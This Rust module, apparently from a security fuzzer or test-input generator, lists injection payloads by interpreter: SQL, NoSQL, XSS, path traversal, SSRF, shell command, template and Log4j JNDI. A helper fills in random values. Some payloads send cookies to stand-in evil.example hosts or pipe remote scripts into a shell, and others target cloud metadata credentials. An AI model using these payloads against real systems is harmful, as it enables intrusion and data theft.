//! What attackers put into values, by kind of interpreter. `{n}` stands for a random number, `{w}` for a random word.

use crate::chance::Chance;

pub(super) static SQL: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1-- -",
    "x' UNION SELECT {n},email,password_hash FROM users-- -",
    "1 AND (SELECT {n} FROM (SELECT(SLEEP(5)))a)",
    "'; DROP TABLE {w};--",
    "\" or \"\"=\"",
    "-{n} UNION ALL SELECT NULL,NULL,CONCAT(0x71,version(),0x71)#",
    "') AND EXTRACTVALUE({n},CONCAT(0x5c,user()))-- ",
    "1;WAITFOR DELAY '0:0:{n}'--",
    "admin'/*",
    "%' AND {n}=CAST((SELECT current_user) AS int)--",
    "price); SELECT pg_sleep({n});--",
    "' AND ASCII(SUBSTRING((SELECT database()),1,1))>{n}--",
    "id=1 or updatexml(1,concat(0x7e,(select table_name from information_schema.tables limit 0,1)),1)",
];

pub(super) static NOSQL: &[&str] = &[
    "{\"$ne\":null}",
    "{\"$gt\":\"\"}",
    "{\"$regex\":\"^a\"}",
    "{\"$where\":\"sleep({n})\"}",
    "{\"$in\":[\"admin\",\"root\"]}",
    "{\"$exists\":true}",
];

pub(super) static SCRIPT: &[&str] = &[
    "<script>alert({n})</script>",
    "\"><img src=x onerror=fetch('//{w}.evil.example/'+document.cookie)>",
    "<svg/onload=confirm`{n}`>",
    "javascript:/*--></title></style></textarea><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert({n})//'>",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
    "';document.location='https://{w}.evil.example/c?'+document.cookie;//",
    "<a href=\"jaVasCript:alert({n})\">click</a>",
    "{{constructor.constructor('alert({n})')()}}",
    "<details open ontoggle=eval(atob('YWxlcnQoMSk='))>",
];

pub(super) static TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fshadow",
    "....//....//....//windows/win.ini",
    "%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
    "/var/www/../../etc/hosts%00.png",
    "..\\..\\..\\boot.ini",
    "file:///etc/passwd",
];

pub(super) static SSRF: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:6379/INFO",
    "http://[::1]:2375/containers/json",
    "gopher://127.0.0.1:11211/_stats",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://0x7f000001:{n}/",
    "dict://localhost:{n}/info",
];

pub(super) static COMMAND: &[&str] = &[
    "; cat /etc/passwd",
    "| id",
    "$(curl http://{w}.evil.example/x.sh|sh)",
    "`sleep {n}`",
    "&& whoami && uname -a",
    "a.jpg;wget${IFS}http://{w}.evil.example/p -O-|bash",
    "|| ping -c {n} 198.19.200.7 ||",
    "%0a/bin/ls -la%0a",
];

pub(super) static TEMPLATE: &[&str] = &[
    "{{7*7}}",
    "${7*{n}}",
    "<%= system('id') %>",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${{<%[%'\"}}%\\.",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
];

pub(super) static LOG4J: &[&str] = &[
    "${jndi:ldap://{w}.evil.example:1389/a}",
    "${${lower:j}ndi:${lower:r}mi://198.19.200.9:{n}/o}",
    "${${::-j}${::-n}${::-d}${::-i}:dns://{w}.evil.example}",
    "${jndi:${lower:l}${lower:d}ap://198.19.201.4/Basic/Command/Base64/aWQ=}",
];

const WORDS: &[&str] = &["users", "orders", "q7x", "oob", "cb91", "accounts", "payload"];

/// One of a list, its places filled in.
pub(super) fn one(chance: &mut Chance, from: &[&str]) -> String {
    let text = chance.pick(from);
    let (number, word) = (chance.between(3, 9_000).to_string(), chance.pick(WORDS));
    let text = text.replace("{n}", &number).replace("{w}", word);
    match chance.below(8) {
        0 => text.to_uppercase(),
        1 => text.replace(' ', "/**/"),
        2 => text.to_lowercase(),
        _ => text,
    }
}
